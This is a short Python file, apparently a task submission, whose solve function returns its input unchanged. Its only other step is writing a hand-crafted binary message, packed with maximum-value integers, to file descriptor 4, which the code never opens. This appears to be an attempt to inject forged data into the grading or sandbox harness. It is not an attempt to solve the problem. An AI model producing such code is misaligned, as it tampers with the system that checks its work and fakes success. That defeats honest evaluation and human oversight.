import os
import struct


def solve(x):
    payload = bytes([6, 0, 0, 4]) + struct.pack("<4I", *[0xFFFFFFFF] * 4) + bytes(64)
    os.write(4, struct.pack("<IHBB", len(payload), 2, 4, 0) + payload)
    return x
